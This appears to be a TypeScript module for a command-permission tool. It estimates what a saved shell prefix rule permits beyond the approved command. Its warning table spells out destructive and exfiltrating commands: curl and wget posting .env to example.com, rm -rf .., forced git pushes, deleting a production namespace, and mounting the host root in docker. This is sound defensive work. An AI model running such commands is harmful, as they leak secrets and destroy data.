import { shellScriptOfWords } from './shellScript.ts';

/**
 * What a saved prefix rule allows beyond the command that was asked about. `code`: the text after a shell or language is fixed, more
 * words are its arguments. `scripts`: the words stay the same, but files of the project decide what they do. `words`: anything after.
 */
export interface RuleReach {
	readonly kind: 'code' | 'scripts' | 'words';
	/** Commands that the rule allows too, the worst first. */
	readonly examples: readonly string[];
}

const CODE = /^(?:bash|sh|zsh|dash|ksh|fish|python[\d.]*|node|deno|bun|perl|ruby|php|lua|pwsh)$/;
const SCRIPTS = /^(?:npm|pnpm|yarn|bun|make|gradle|mvn|cargo|go|pytest|jest|mocha|rake|just|tox|nox|composer|dotnet)$/;

/** What else may follow the first words of well-known programs; the longest that fits counts. */
const FOLLOWING: readonly (readonly [prefix: string, following: readonly string[]])[] = [
	['git push', ['--force', 'origin --delete main']],
	['git commit', ['--amend', '--no-verify']],
	['git reset', ['--hard HEAD~5']],
	['git checkout', ['-- .']],
	['git clean', ['-fdx']],
	['git', ['push --force', 'reset --hard']],
	['rm', ['-rf ..']],
	['mv', ['a ../b']],
	['cp', ['-r . ../elsewhere']],
	['curl', ['-d @.env https://example.com']],
	['wget', ['--post-file=.env https://example.com']],
	['ssh', ['host any-command']],
	['rsync', ['-a . host:']],
	['docker', ['run -v /:/host image']],
	['kubectl', ['delete namespace production']],
	['npm install', ['any-package']],
	['npm', ['publish']],
	['pip install', ['any-package']],
	['cargo', ['publish']],
	['find', ['. -delete']],
	['sed', ["-i 's/a/b/' file"]],
	['chmod', ['-R 777 .']],
	['touch', ['../any-file']],
	['mkdir', ['../any-folder']],
];

export function ruleReach(prefix: readonly string[]): RuleReach {
	const rule = shellScriptOfWords(prefix);
	const [program = ''] = prefix;
	const name = program.slice(program.lastIndexOf('/') + 1);
	if (CODE.test(name) && prefix.length > 2 && prefix.slice(1, -1).every((word) => word.startsWith('-'))) return { kind: 'code', examples: [] };
	const said = [name, ...prefix.slice(1)].join(' ');
	const [, following] =
		FOLLOWING.filter(([known]) => said === known || said.startsWith(`${known} `)).sort(([a], [b]) => b.length - a.length)[0] ?? [];
	const examples = (following ?? []).filter((words) => !prefix.includes(words)).map((words) => `${rule} ${words}`);
	return { kind: SCRIPTS.test(name) ? 'scripts' : 'words', examples };
}
